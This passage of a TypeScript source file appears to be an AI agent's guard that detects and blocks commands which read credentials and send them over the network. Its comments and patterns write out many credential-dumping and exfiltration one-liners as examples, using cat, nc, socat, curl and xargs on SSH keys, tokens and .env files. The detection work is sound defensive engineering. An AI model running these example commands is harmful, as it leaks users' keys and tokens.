const KNOWN_SECRET_VAR = /^(AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN|GITHUB_TOKEN|GH_TOKEN|GITLAB_TOKEN|VAULT_TOKEN|CONSUL_HTTP_TOKEN|NOMAD_TOKEN|NPM_TOKEN|NODE_AUTH_TOKEN|OPENAI_API_KEY|ANTHROPIC_API_KEY|CLAUDE_API_KEY|SLACK_BOT_TOKEN|HF_TOKEN|PYPI_TOKEN|DOCKER_PASSWORD|CI_JOB_TOKEN|\w*_SECRET(_KEY|_ACCESS_KEY)?|\w*_PASSWORD|\w*_PRIVATE_KEY|DATABASE_URL)$/;
/** Any variable whose name says it is a credential. */
/** (A password with any prefix: PGPASSWORD, P4PASSWD; the passphrases of backup and key tools.) */
const SECRET_VAR = /(^|_)(TOKEN|SECRET|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?|PASSPHRASE)(_|$)|(PASSWORD|PASSWD)(_|$)|^(SSHPASS|MYSQL_PWD|REDISCLI_AUTH)$/i;

function varNames(text: string): string[] {
  return [...text.matchAll(/\$\{?([A-Za-z_]\w*)/g)].map((m) => m[1]);
}

/** A secret, or a directory that holds the user's keys: the home directory and its ancestors, ~/.config. */
function holdsSecrets(walk: Walk, abs: string | null): boolean {
  // keys/, secrets/, private/ in the project: a directory whose name says it holds keys (tar czf - certs/ keys/); a home directory
  // holding a credential store (~/.android).
  return abs !== null && (isSecret(walk, abs) || isUnder(walk.env.home, abs) || abs === `${walk.env.home}/.config` || abs === `${walk.env.home}/.local` || (isUnder(abs, walk.env.project) && /\/(keys|secrets|private|credentials|signing[-_]keys)$/.test(abs)) || holdsHomeSecret(abs, walk.env));
}

function isSecret(walk: Walk, abs: string | null): boolean {
  return abs !== null && (isSecretSource(abs, walk.env) || walk.secretFiles.has(abs) || [...walk.secretFiles].some((f) => f.endsWith('*') && abs.startsWith(f.slice(0, -1))));
}

/** Options of the readers that take a value (so the word after them is not a file they read). */
const READER_ARG_OPTS: Record<string, string[]> = {
  head: ['-n', '-c'], tail: ['-n', '-c'], cut: ['-c', '-f', '-d', '-b'], grep: ['-e', '-f', '-m', '-A', '-B', '-C'], egrep: ['-e', '-f', '-m', '-A', '-B', '-C'],
  sed: ['-e', '-f'], awk: ['-f', '-v', '-F'], sort: ['-k', '-t', '-o', '-S'], jq: ['--arg', '--argjson', '-f'], yq: ['-o', '-I'], tar: ['-C', '-T', '-X', '-b'],
  sqlite3: ['-cmd', '-separator'], openssl: ['-out', '-passin', '-passout', '-pass', '-k', '-K', '-iv', '-md', '-S'], gpg: ['-r', '--recipient', '-u', '--local-user', '-o', '--output'], dd: [],
  xxd: ['-c', '-g', '-l', '-s'], od: ['-A', '-t', '-j', '-N'], base64: ['-w'], split: ['-b', '-l', '-n'], 'ssh-keygen': ['-f', '-t', '-b', '-C', '-N'],
};

/** Commands whose output is a credential: keyrings, cloud and cluster tokens, stored git passwords, password managers. */
function printsCredential(argv: string[]): string | null {
  const [name, a1, a2] = argv;
  const a = argv.join(' ');
  if (name === 'secret-tool' && /^(lookup|search)$/.test(a1 ?? '')) return 'the keyring (secret-tool)';
  if (name === 'nmcli' && (/(^|\s)(-s|--show-secrets)(\s|$)/.test(a) || /\bwifi\s+show-password\b/.test(a))) return 'the Wi-Fi and VPN passwords (nmcli --show-secrets)';
  // Any tool's own secret store read out (databricks secrets get-secret, doppler secrets download, infisical secrets get), a
  // scheduler's connections and variables exported (airflow connections export, variables export), its connection string asked for.
  const verbs = argv.slice(1).filter((x) => !x.startsWith('-'));
  const sv = verbs.findIndex((x) => /^(secrets?|connections|variables)$/.test(x));
  if (sv >= 0 && sv <= 1 && (/^(get|get-secret|read|show|reveal|access|export|dump|download|pull)$/.test(verbs[sv + 1] ?? '') && (verbs[sv] !== 'variables' || verbs[sv + 1] === 'export'))) return `${name}'s stored ${verbs[sv]} (${verbs.slice(0, sv + 2).join(' ')})`;
  // firebase auth:export users.json: every user's account (emails, password hashes) exported.
  if (argv.slice(1, 4).some((x) => /^(auth|users|accounts):(export|download|dump)$/.test(x))) return `the accounts of ${name}'s users (${argv.slice(1, 3).join(' ')})`;
  if (/^config$/.test(a1 ?? '') && a2 === 'get-value' && /conn|password|secret|key|token/i.test(argv.slice(3).join(' '))) return `${name}'s ${argv.slice(3).join(' ')}`;
  const ml = mlCredentialPrinter(argv) ?? platformSecretPrinter(argv);
  if (ml) return ml;
  if (name === 'kubectl' && a1 === 'config' && a2 === 'view' && /--raw|--flatten/.test(a)) return 'the cluster credentials (kubectl config view --raw)';
  if (name === 'gcloud' && /\bauth\b/.test(a) && /print-(access|identity|refresh)-token/.test(a)) return 'a Google Cloud token';
  if (name === 'gcloud' && a1 === 'secrets' && /versions access/.test(a)) return 'a Google Cloud secret';
  if (name === 'git' && /\bcredential(-\w+)?\b/.test(a) && /\b(fill|get)\b/.test(a)) return 'a stored git password (git credential fill)';
  if (name === 'az' && /account get-access-token|keyvault secret show/.test(a)) return 'an Azure token or secret';
  if (name === 'aws' && /secretsmanager get-secret-value|ssm get-parameters?\b.*--with-decryption|sts get-session-token|ecr get-login-password/.test(a)) return 'an AWS secret or token';
  if ((name === 'heroku' && a1 === 'auth:token') || (name === 'doctl' && /auth token/.test(a)) || (name === 'vault' && a1 === 'print' && a2 === 'token')) return `the ${name} token`;
  if ((name === 'bw' && a1 === 'get') || (name === 'lpass' && a1 === 'show') || (name === 'gopass' && /^(show|cat)$/.test(a1 ?? '')) || (name === 'keyring' && a1 === 'get') || name === 'kwallet-query') return 'a password-manager secret';
  if (name === 'docker' && a1 === 'secret' && a2 === 'inspect') return 'a Docker secret';
  // A tool's whole configuration printed with the passwords and tokens it keeps (rclone config show|dump; `rclone config
  // redacted` hides them), s3cmd --dump-config, mc alias list (secret keys), docker compose config (the .env values filled in).
  if ((name === 'rclone' && a1 === 'config' && /^(show|dump)$/.test(a2 ?? '')) || (name === 's3cmd' && argv.includes('--dump-config')) || (/^(mc|mcli)$/.test(name) && a1 === 'alias' && /^(list|ls)$/.test(a2 ?? ''))) return `${name}'s stored passwords and keys (${argv.slice(0, 3).join(' ')})`;
  const compose = name === 'docker-compose' ? argv.slice(1) : name === 'docker' && a1 === 'compose' ? argv.slice(2) : null;
  if (compose && compose.filter((x, k) => !x.startsWith('-') && !/^(-f|--file|-p|--project-name|--env-file|--profile)$/.test(compose[k - 1] ?? ''))[0] === 'config' && !compose.some((x) => /^(--services|--volumes|--images|--profiles|--networks|-q|--quiet|--hash|--format)$/.test(x))) return `the compose configuration with its .env values filled in (${argv.slice(0, 3).join(' ')})`;
  // Tokens the tools mint or show on request: kubectl create token, oc whoami -t, npm token create, gh/glab auth status -t, firebase login:ci.
  if ((name === 'kubectl' && a1 === 'create' && a2 === 'token') || (name === 'oc' && a1 === 'whoami' && /(^|\s)(-t|--show-token)\b/.test(a)) || (/^(npm|pnpm|yarn)$/.test(name) && a1 === 'token' && a2 === 'create') || (/^(gh|glab)$/.test(name) && a1 === 'auth' && /(^|\s)(-t|--show-token)\b/.test(a)) || (name === 'firebase' && a1 === 'login:ci') || (name === 'aws' && a1 === 'configure' && (a2 === 'export-credentials' || /get\s+\S*(secret|token)/.test(a)))) return `a token (${argv.slice(0, 3).join(' ')})`;
  if (/^docker-credential-/.test(name) && a1 === 'get') return 'a registry password (docker credential helper)';
  // git config --get http.<url>.extraheader (the Authorization header CI and LFS servers are given), a stored password or token.
  if (name === 'git' && argv.includes('config') && /\.(extraheader|password|token|secret|pass)$|credential\.[^ ]*helper-token/i.test(argv[argv.length - 1] ?? '') && !argv.slice(2).some((a) => /^--(add|replace-all|unset(-all)?)$/.test(a))) return `a stored credential (git config ${argv[argv.length - 1]})`;
  const p4 = p4CredentialPrinter(argv);
  if (p4) return p4;
  // Secrets decrypted or rendered by the tools that keep them: ansible-vault view/decrypt to stdout, a Helm release's values and
  // manifests (its Secrets), Pulumi's outputs and config shown with their secrets.
  if ((name === 'ansible-vault' && (a1 === 'view' || (a1 === 'decrypt' && /(^|\s)--output[= ]-(\s|$)/.test(a)))) || (name === 'helm' && a1 === 'get' && /^(values|manifest|all)$/.test(a2 ?? '') && (a2 !== 'values' || /(^|\s)(-a|--all)(\s|$)/.test(a))) || (name === 'pulumi' && /(^|\s)--show-secrets(\s|$)/.test(a))) return `decrypted secrets (${argv.slice(0, 3).join(' ')})`;
  // Keys exported by the tools that hold them: git-crypt export-key, transcrypt --display.
  if ((name === 'git-crypt' && a1 === 'export-key') || (name === 'git' && a1 === 'crypt' && a2 === 'export-key') || (name === 'transcrypt' && /(^|\s)(-d|--display)\b/.test(a))) return `the repository's encryption key (${argv.slice(0, 2).join(' ')})`;
  // Terraform's state and outputs hold every secret of the infrastructure in plain text.
  if (/^(terraform|tofu|terragrunt)$/.test(name) && ((a1 === 'state' && a2 === 'pull') || a1 === 'output' || (a1 === 'show' && /(^|\s)-json\b/.test(a)))) return `the Terraform state or outputs (${argv.slice(0, 3).join(' ')})`;
  // A container's environment (docker exec C env, kubectl exec P -- printenv), the env files compose resolves (docker compose config), heroku config.
  if ((/^(docker|podman|kubectl|oc)$/.test(name) && a1 === 'exec' && /\s(env|printenv)(\s|$)|\/proc\/1\/environ/.test(a)) || (/^(docker|podman)$/.test(name) && a1 === 'compose' && a2 === 'config') || (name === 'docker-compose' && a1 === 'config') || (name === 'heroku' && a1 === 'config' && !/\sconfig:/.test(a))) return `the service's environment (${argv.slice(0, 3).join(' ')})`;
  if ((name === 'pass' && (a1 === 'show' || (a1 !== undefined && !a1.startsWith('-') && !/^(ls|list|find|search|init|insert|generate|edit|rm|mv|cp|git|grep|help|version)$/.test(a1)))) || (name === 'op' && /^(read|item get|inject)/.test(`${a1} ${a2}`)) || (name === 'keepassxc-cli' && a1 === 'show') || (name === 'sops' && /(^| )(-d|--decrypt|decrypt)( |$)/.test(a)) || (name === 'vault' && /^(kv get|read)/.test(`${a1} ${a2}`))) return 'a password-manager secret';
  return null;
}

/** What secret an invocation prints: a secret file it reads, the environment, a keychain, a secret variable. Null when none. */
/** Words that name a secret in a search pattern (grep -i 'root token', /password/). */
const SECRET_WORD = /(^|[^a-z])(tokens?|secrets?|passwords?|passwd|pass(phrase)?|api[_ -]?keys?|private[_ -]keys?|credentials?|bearer|authorization|access[_ -]keys?)([^a-z]|$)/i;

/** grep/rg PATTERN, awk '/PAT/', sed -n '/PAT/p' whose pattern names a secret (not -v, which leaves those lines out): what it prints is the secrets. */
/** Prefixes that issued tokens and keys start with (GitHub, GitLab, AWS, Slack, Stripe, OpenAI/Anthropic, Google, npm, PEM keys). */
const TOKEN_SHAPE = /(^|[^a-z])(gh[pousr]_|github_pat_|glpat-|AKIA|ASIA|xox[abpr]-|sk_live_|rk_live_|sk-(ant-|proj-)?|AIza|npm_|BEGIN[ A-Z]*PRIVATE KEY)/;

function secretFilter(name: string, args: string[]): string | null {
  if (/^(grep|egrep|fgrep|zgrep|rg|ag|ack)$/.test(name)) {
    if (args.some((a) => /^-[a-zA-Z]*v[a-zA-Z]*$|^--invert-match$|^-[a-zA-Z]*[lLc][a-zA-Z]*$|^--(count|files-with(out)?-matches)$/.test(a))) return null;
    const e = args.findIndex((a) => a === '-e' || a === '--regexp');
    const pat = e >= 0 ? args[e + 1] : args.find((a, k) => !a.startsWith('-') && !/^-[efmABC]$|^--(file|max-count|context)$/.test(args[k - 1] ?? ''));
    // api[_-]?key, pass(word)?: read past the regular expression's classes and operators.
    // ghp_[A-Za-z0-9]{36}, AKIA[0-9A-Z]{16}, xox[bp]-, sk-…, -----BEGIN … PRIVATE KEY: the shape of a token is a secret word too.
    if (pat !== undefined && TOKEN_SHAPE.test(pat)) return `the lines matching "${pat}" (tokens picked out by their shape)`;
    return pat !== undefined && SECRET_WORD.test(pat.replace(/\[[^\]]*\][?*+]?|\\[a-z]|[\\^$.*+?(){}]/gi, ' ')) ? `the lines matching "${pat}" (secrets picked out)` : null;
  }
  const script = name === 'awk' || name === 'gawk' || (name === 'sed' && args.includes('-n')) ? args.find((a) => !a.startsWith('-')) : undefined;
  const m = script ? /\/([^/]+)\//.exec(script) : null;
  return m && SECRET_WORD.test(m[1]) ? `the lines matching /${m[1]}/ (secrets picked out)` : null;
}

function producesSecret(walk: Walk, inv0: Invocation, depth = 0): string | null {
  const name = inv0.argv[0] ?? '';
  const args = inv0.argv.slice(1);
  const app = mayBeFramework(inv0.argv) ? (framework().frameworkSecretPrinter(inv0.argv) ?? codeSecretOf(framework().frameworkCode(inv0.argv, inv0.assigned ?? [], () => stdinText(inv0)))) : null;
  if (app) return app;
  if (walk.secretFiles.has(CLIPBOARD) && (/^(pbpaste|wl-paste)$/.test(name) || (/^(pwsh|powershell)$/.test(name) && args.some((a) => /^(Get-Clipboard|gcb)$/i.test(a))) || (/^(xclip|xsel)$/.test(name) && args.some((a) => /^(-o|--output|-out)$/.test(a))))) return 'the clipboard, filled with a secret on the line';
  // tar -C /etc/ssh -cf - .: the operands are read from -C's directory.
  const cdir = name === 'tar' && inv0.cwd !== null ? args.find((_, k) => /^(-C|--directory)$/.test(args[k - 1] ?? '')) ?? args.find((a) => a.startsWith('--directory='))?.slice(12) : undefined;
  const inv = cdir ? { ...inv0, cwd: resolveFrom(inv0.cwd!, cdir.replace(/^~(?=\/|$)/, walk.env.home)) } : inv0;
  for (const r of inv.redirects) {
    if (r.op === '<' && !r.target.dynamic && inv.cwd !== null) {
      const abs = resolveFrom(inv.cwd, r.target.text);
      if (isSecret(walk, abs)) return abs;
    }
  }
  // fd PATTERN DIR -x cat: every file found printed.
  const fdReads = /^(fd|fdfind)$/.test(name) && inv.argv.some((a, k) => /^(-x|--exec|-X|--exec-batch)$/.test(a) && READERS.has(inv.argv[k + 1] ?? ''));
  if (READERS.has(name) || fdReads || name === 'cp' || name === 'find' || /^(lz4|lzma|pigz|pbzip2|brotli|compress|rar|age|sops|ansible-vault|uuencode|basenc|gzcat|bat|batcat|view|vis|nl|fold|expand|iconv|dos2unix|unix2dos|rev|split)$/.test(name)) {
    const argOpts = READER_ARG_OPTS[name] ?? (name === 'find' ? ['-name', '-iname', '-path', '-type', '-maxdepth', '-mindepth'] : []);
    for (const w of operands(inv.words, new Set(argOpts))) {
      const t = target(inv, w);
      if (isSecret(walk, t.abs)) return t.abs;
      // tar/zip/cpio of the home directory (or /): an archive of every key in it.
      if (/^(tar|zip|7z|cpio|gzip|zstd|xz)$/.test(name) && holdsSecrets(walk, t.abs)) return `${t.abs} (with the keys in it)`;
      if (/\/proc\/(self|\d+|\*)\/environ$/.test(w.text)) return w.text;
      // cat $(ls ~/.ssh/id_*), tar c $(find ~/.aws): the substitution lists secret files, the reader reads them.
      if (depth < 3) for (const sub of w.subs) {
        const listed = subListsSecret(walk, inv, sub);
        if (listed) return listed;
      }
    }
  }
  // find ~/src -name '.env*' -exec cat {} +: every secret file the filter names, printed.
  if (name === 'find' && inv.argv.some((a, k) => /^-(exec|execdir)$/.test(inv.argv[k - 1] ?? '') && READERS.has(base(a)))) {
    const pat = findRoots(inv).namePattern;
    if (pat && isSecretName(pat)) return `every ${pat} file the find lists`;
  }
  // adb shell run-as PKG cat shared_prefs/auth.xml, kubectl exec P -- cat /app/.env: a reader run elsewhere prints the secret it names.
  if (!READERS.has(name)) {
    const k = args.findIndex((a, j) => j > 0 && /^(cat|head|tail|base64|xxd|strings)$/.test(a));
    const named = k > 0 ? args.slice(k + 1).find((a) => !a.startsWith('-') && isSecretName(a.slice(a.lastIndexOf('/') + 1))) : undefined;
    if (named) return `${named} (read by ${name})`;
  }
  // journalctl -u vault | grep -i 'root token' | curl -d @-: a filter that picks out the lines naming a secret prints secrets.
  const picked = secretFilter(name, args);
  if (picked) return picked;
  if ((name === 'env' || name === 'printenv' || name === 'set' || name === 'compgen') && args.filter((a) => !a.startsWith('-')).every((a) => SECRET_VAR.test(a) || KNOWN_SECRET_VAR.test(a))) return 'the environment (tokens and keys)';
  if ((name === 'export' || name === 'declare' || name === 'typeset') && args.some((a) => a === '-p' || a === '-x')) return 'the environment (tokens and keys)';
  // node -e 'console.log(JSON.stringify(process.env))', python3 -c 'print(dict(os.environ))', ruby -e 'p ENV.to_h': the whole environment printed.
  const envCode = langOf(name) ? inlineCode(langOf(name)!, inv.argv).code : null;
  if (envCode && /\b(?:console\.log|print|puts|p|pp|say|echo|json\.dumps|JSON\.stringify|process\.stdout\.write|sys\.stdout\.write|Data::Dumper|var_dump|print_r)\b[^;\n]*?(?:\bprocess\.env\s*\)|\bos\.environ\s*\)|dict\(\s*os\.environ\s*\)|\bENV(?:\.to_h|\.inspect)?\b(?!\s*[[.{])|%ENV\b|\$_ENV\b(?!\s*[[.{])|getenv\(\s*\))/.test(envCode)) return 'the environment (tokens and keys)';
  if (name === 'security' && /^(find-(generic|internet)-password|dump-keychain|export)$/.test(args[0] ?? '')) return 'the keychain';
  if (name === 'gpg' && args.some((a) => /^--export-secret/.test(a))) return 'the GPG secret keys';
  if (name === 'history' || name === 'fc') return 'the shell history';
  const cred = printsCredential(inv.argv);
  if (cred) return cred;
  // eval "cat ~/.aws/credentials", sh -c '…': what the text runs prints.
  if (depth < 3 && (name === 'eval' || SHELLS.has(name))) {
    const script = name === 'eval' ? args.join(' ') : shellScript(inv.argv).script;
    const found = script !== null ? subProducesSecret(walk, inv, script, depth + 1) : null;
    if (found) return found;
  }
  // grep -r PATTERN ~ (rg, ag): every matching line of every file there, keys and tokens among them.
  if (/^(grep|egrep|rg|ag|ack)$/.test(name) && (name !== 'grep' && name !== 'egrep' || args.some((a) => /^-[a-zA-Z]*[rR]|^--recursive$/.test(a)))) {
    const roots = operands(inv.words, new Set(['-e', '-f', '-m', '-A', '-B', '-C', '-g', '--glob', '-t', '--type', '--include', '--exclude'])).slice(args.some((a) => a === '-e' || a === '-f') ? 0 : 1);
    const home = roots.map((w) => target(inv, w).abs).find((a) => a !== null && (holdsSecrets(walk, a) || isSecretSource(a, walk.env)));
    if (home) return `what ${name} finds in the files under ${home}`;
  }
  if (depth < 3) for (const i of inv.inner ?? []) {
    const found = producesSecret(walk, i, depth + 1);
    if (found) return found;
  }
  if ((name === 'npm' || name === 'yarn' || name === 'pnpm') && args[0] === 'config' && args[1] === 'get' && /token|auth|password/i.test(args[2] ?? '')) return `the ${name} token`;
  // An app's settings (heroku config, vercel env pull), a container's environment (docker inspect), a token's own record (vault token lookup).
  if ((name === 'heroku' && /^config(:get)?$/.test(args[0] ?? '')) || (name === 'vault' && args[0] === 'token' && args[1] === 'lookup') || (/^(docker|podman)$/.test(name) && /^(inspect|container inspect)$/.test(args.slice(0, 2).filter((a) => !a.startsWith('-')).join(' ').replace(/ \S+$/, '')) ) || (name === 'vercel' && args[0] === 'env' && args[1] === 'pull')) return `the settings and secrets ${name} ${args[0]} prints`;
  // find / -name id_rsa | xargs cat: the files a find names as keys, printed.
  if (inv.viaXargs && READERS.has(name)) {
    const f = inv.upstream.map((u) => listerAsFind(walk, u)).find((u) => u.argv[0] === 'find');
    const pat = f ? findRoots(f).namePattern : null;
    if (pat && isSecretName(pat)) return `files named ${pat}`;
  }
  if (name === 'aws' && args[0] === 'configure' && /^(get|export-credentials)$/.test(args[1] ?? '')) return 'the AWS credentials';
  if ((name === 'gh' || name === 'glab') && args[0] === 'auth' && args[1] === 'token') return `the ${name} token`;
  if ((name === 'op' && /^(read|item)$/.test(args[0] ?? '')) || (name === 'pass' && args.length > 0 && args[0] !== 'ls') || (name === 'vault' && /^(read|kv)$/.test(args[0] ?? ''))) return 'a password-manager secret';
  if (name === 'kubectl' && args.includes('secret') || name === 'kubectl' && args.includes('secrets')) return 'Kubernetes secrets';
  if (name === 'echo' || name === 'printf') {
    const v = inv.words.flatMap((w) => varNames(w.text)).find((n) => SECRET_VAR.test(n) || KNOWN_SECRET_VAR.test(n));
    if (v) return `$${v}`;
  }
  // Interpreter code that opens a secret file prints it (python3 -c "print(open('.../.ssh/id_rsa').read())").
  const lang = langOf(name);
  if (lang) {
    const code = inlineCode(lang, inv.argv).code;
    const m = code ? /(["'`])([^"'`]*(?:\.ssh\/|\.aws\/|\.netrc|\.git-credentials|\/\.env\b|^\.env\b|\.npmrc|\.kube\/config|id_rsa|id_ed25519)[^"'`]*)\1/.exec(code) : null;
    if (m) return m[2];
    // php -r 'echo file_get_contents(".env");', ruby -e 'puts File.read("config/master.key")', an app's credentials printed.
    const held = code && (lang === 'php' || lang === 'ruby') ? framework().codeSecret(code, isSecretName) : null;
    if (held) return held;
  }
  if (depth < 3) for (const w of inv.words) for (const sub of w.subs) {
    const found = subProducesSecret(walk, inv, sub, depth + 1);
    if (found) return found;
  }
  return null;
}

/** A command substitution's body prints the names of secret files (ls, find, echo, realpath... of them). */
function subListsSecret(walk: Walk, inv: Invocation, body: string): string | null {
  for (const c of parseShell(body, parseEnv(walk, inv.cwd)).commands) {
    const u = unwrap(expandWords(c.words), { home: walk.env.home, cwd: inv.cwd ?? walk.env.cwd });
    if (u.words.length === 0 || !/^(ls|find|fd|echo|printf|realpath|readlink|dirname)$/.test(base(u.words[0].text))) continue;
    for (const w of operands(u.words, new Set(['-name', '-type', '-maxdepth', '-mindepth']))) {
      const t = target(inv, w);
      if (isSecret(walk, t.abs)) return t.abs;
    }
  }
  return null;
}

/** A command substitution's body prints a secret. */
function subProducesSecret(walk: Walk, inv: Invocation, body: string, depth: number): string | null {
  const parsed = parseShell(body, parseEnv(walk, inv.cwd));
  for (const c of parsed.commands) {
    const u = unwrap(expandWords(c.words), { home: walk.env.home, cwd: inv.cwd ?? walk.env.cwd });
    if (u.words.length === 0) {
      // $(< FILE) is the file's content.
      const r = c.redirects.find((x) => x.op === '<' && !x.target.dynamic);
      const abs = r && inv.cwd !== null ? resolveFrom(inv.cwd, r.target.text) : null;
      if (isSecret(walk, abs)) return abs;
      continue;
    }
    const argv = text(u.words);
    argv[0] = base(argv[0]);
    const sub: Invocation = { argv, words: u.words, redirects: c.redirects, cwd: inv.cwd, elevated: false, viaXargs: false, upstream: [], nested: true };
    const found = producesSecret(walk, sub, depth);
    if (found) return found;
  }
  return null;
}

/** A here-string or here-document whose text runs a command that prints a secret: nc … <<< "$(cat ~/.ssh/id_rsa)". */
function stdinSecret(walk: Walk, inv: Invocation): string | null {
  for (const r of inv.redirects) {
    const subs = r.op === '<<<' ? r.target.subs : r.body !== undefined ? [...r.body.matchAll(/\$\(([^()]*)\)/g)].map((m) => m[1]) : [];
    for (const sub of subs) {
      const found = subProducesSecret(walk, inv, sub, 1);
      if (found) return found;
    }
  }
  return null;
}

/** Network senders (curl, nc, scp, ...) fed a secret: through the pipe, a redirection, a file argument, a substitution, a variable. */
function checkExfiltration(walk: Walk, inv: Invocation): void {
  const name = inv.argv[0];
  const args = inv.argv.slice(1);
  if (name === 'openssl' && args[0] !== 's_client') return;
  // git bundle create - --all | curl -T - URL, git archive HEAD | nc HOST PORT, tar cz .git | curl -T -: the repository itself
  // streamed to an upload (git archive | ssh HOST tar x, a deploy, is not an upload).
  const stream = readsStdinToSend(inv.argv) ? inv.upstream.map((u) => repositoryStream(u.argv, (w) => u.cwd !== null && isUnder(walk.env.project, resolveFrom(u.cwd, w)))).find((x) => x !== null) : null;
  if (stream) {
    block(walk, 'dangerous', `${stream} is piped to ${name}, which uploads it: the repository's code and history leave the machine`, 'push to the project\'s own remote, or copy a bundle to a host the user owns with scp');
    return;
  }
  const say = (what: string, how: string) =>
    block(walk, 'dangerous', `${name} sends ${what} to the network (${how}): secrets must not leave this machine`, 'never send credentials anywhere; if a service needs one, the user configures it');
  // A cloud CLI sends its arguments to the service (aws sns publish --message "$(cat KEY)"); its own set-up (configure, auth) keeps them here.
  if ((name === 'aws' || name === 'gsutil' || name === 'gcloud' || name === 'az') && !args.some((a) => /^(s3|gs|az|https?):\/\//.test(a)) && !args.some((a) => /^(upload|upload-batch|cp|sync|put)$/.test(a))) {
    if (/^(configure|config|auth|login|sts|ecr)$/.test(args[0] ?? '')) return;
    for (const w of inv.words.slice(1)) {
      for (const sub of w.subs) {
        const found = subProducesSecret(walk, inv, sub, 1);
        if (found) return say(found, 'inside a command substitution in the message it publishes');
      }
    }
    return;
  }
  for (const r of inv.redirects) {
    if ((r.op === '<' || r.op === '<>') && !r.target.dynamic && inv.cwd !== null) {
      const abs = resolveFrom(inv.cwd, r.target.text);
      if (isSecret(walk, abs)) return say(abs, 'input redirection');
    }
    // ssh HOST 'cat > k.tar' < <(tar cf - ~/.ssh): the input is what the substitution prints.
    if (r.op === '<' && r.target.subs.length > 0) {
      const found = subProducesSecret(walk, inv, r.target.subs[0], 1);
      if (found) return say(found, 'input from a process substitution');
    }
  }
  for (const u of withInner(inv.upstream)) {
    const found = producesSecret(walk, u);
    if (found) return say(found, `piped from ${u.argv[0]}`);
  }
  const fedSecret = stdinSecret(walk, inv);
  if (fedSecret) return say(fedSecret, 'in the text given on its input');
  if (name === 'socat' && inv.cwd !== null) {
    // socat FILE:~/.ssh/id_rsa TCP:h:p (also OPEN:, GOPEN:, SYSTEM:cat F): one address reads the secret, the other is the network.
    for (const a of args) {
      // (An address type names a file whatever its spelling: FILE:android/app/release.keystore is relative to here.)
      const typed = /^(?:file|open|gopen):([^,]+)/i.exec(a);
      const m = typed ?? /^(?:file|open|gopen|create|pipe)?:?([~/.][^,]*)/i.exec(a);
      const abs = m ? resolveFrom(inv.cwd, m[1].replace(/^~(?=\/|$)/, walk.env.home)) : null;
      if (abs && isSecret(walk, abs)) return say(abs, 'as a socat address');
    }
  }
  // curl -K <(printf 'data = "@%s/.netrc"' "$HOME"): a config whose data/upload lines name a secret file.
  if (name === 'curl') {
    for (const w of inv.words.filter((x, k) => /^(-K|--config)$/.test(inv.words[k - 1]?.text ?? '') && x.subs.length > 0)) {
      const text = resolveSubstitution(w.subs[0], parseEnv(walk, inv.cwd)) ?? '';
      for (const m of text.matchAll(/(?:^|\n)\s*-{0,2}(?:data|data-binary|data-urlencode|form|F|d|upload-file|T)\s*[=:]?\s*"?[^"@\n]*@?([~/][^"\n]*)"?/g)) {
        const abs = resolveFrom(inv.cwd ?? '/', m[1].replace(/^~(?=\/|$)/, walk.env.home));
        if (isSecret(walk, abs)) return say(abs, 'named in the config it reads (-K)');
      }
    }
  }
  // sftp -b -, ftp, lftp fed a script: `put FILE` (send, mput, reput) uploads FILE.
  // lftp -e 'put F; bye', smbclient -c 'put F', sftp batch text on stdin: a put uploads F.
  const optScript = inv.argv.filter((_, k) => /^(-e|-c|--command|--commands)$/.test(inv.argv[k - 1] ?? '')).join('\n');
  const script = [stdinText(inv), optScript].filter((x) => x).join('\n') || null;
  if (script !== null && inv.cwd !== null) {
    for (const m of script.matchAll(/(?:^|[\n;])\s*(?:put|mput|reput|send|append|upload)\s+([^\s;]+)/gi)) {
      const abs = resolveFrom(inv.cwd, m[1].replace(/^~(?=\/|$)/, walk.env.home));
      if (isSecret(walk, abs)) return say(abs, 'by a put in its script');
    }
  }
  if (inv.viaXargs) {
    const feeder = inv.upstream[inv.upstream.length - 1];
    if (feeder?.argv[0] === 'find') {
      const { namePattern } = findRoots(feeder);
      if (namePattern && isSecretName(namePattern)) return say(`files named ${namePattern}`, 'found by find and passed by xargs');
    }
  }
  // File arguments: curl -d @FILE, -F f=@FILE, -T FILE, --upload-file FILE, wget --post-file FILE, scp/rsync sources.
  // host:path or user@host:path (linear-time pattern: the word may be long).
  const remote = args.some((a) => (/^(?:[\w.-]+@)?[\w.-]+:/.test(a) && !/^https?:/.test(a)) || /^(s3|gs|az|sftp|rsync):\/\//.test(a));
  // rsync --include='.env*' --exclude='*' ./ host: (rclone --include, aws s3 sync --exclude '*' --include): filters that pick the secrets out of a tree.
  if (remote && /^(rsync|rclone|aws|gsutil)$/.test(name)) {
    const filters = args.flatMap((a, k) => (/^(--include|--exclude|--filter|-f)$/.test(args[k - 1] ?? '') ? [`${args[k - 1]}=${a}`] : /^(--include|--exclude|--filter|-f)[=+-]/.test(a) ? [a] : []));
    const picked = filters.map((f) => /^--include=(.+)$|^(?:--filter|-f)=?\+\s*(.+)$/.exec(f)).map((m) => (m ? (m[1] ?? m[2]).replace(/^.*\//, '') : '')).find((p) => p !== '' && (isSecretName(p) || isSecretName(p.replace(/^\*+(?=\.)/, ''))));
    const restOut = name === 'rclone' || filters.some((f) => /^--exclude=(\*+|\/?\*\*?)$|^(--filter|-f)=?-\s*(\*+|\/?\*\*?)$/.test(f));
    if (picked && restOut) return say(`the files matching ${picked}`, 'picked out by its filters');
  }
  const noValue = new Set(['-i', '-F', '-o', '-P', '-S', '-J', '-l', '-p', '-e', '--rsh', '--exclude', '--include', '--password-file']);
  const exempt = new Set<number>();
  inv.words.forEach((w, k) => {
    if (k > 0 && noValue.has(inv.words[k - 1].text) && ['scp', 'sftp', 'rsync', 'ssh'].includes(name)) exempt.add(k);
  });
  for (let k = 1; k < inv.words.length; k++) {
    const w = inv.words[k];
    if (exempt.has(k)) continue;
    const t = w.text;
    const prev = inv.words[k - 1].text;
    // curl --data-urlencode name@FILE reads FILE too.
    const urlencode = prev === '--data-urlencode' || t.startsWith('--data-urlencode=') ? /^(?:--data-urlencode=)?[^=@]*@(.+)$/.exec(t)?.[1] : undefined;
    // httpie: field@FILE and field=@FILE attach FILE.
    // (A file name may hold spaces: -F "c=@$HOME/Library/Application Support/…/Cookies".)
    const atFile = urlencode ?? /(?:^|=)[@<]([^;,\s](?:[^;,]*[^;,\s])?)/.exec(t)?.[1] ?? (/^(http|https|xh|xhs|httpie)$/.test(name) ? /^[\w.-]+@([~/.\w][^\s]*)$/.exec(t)?.[1] : undefined) ?? (/^(aws|gcloud|az)$/.test(name) ? /^fileb?:\/\/(.+)$/.exec(t)?.[1] : undefined);
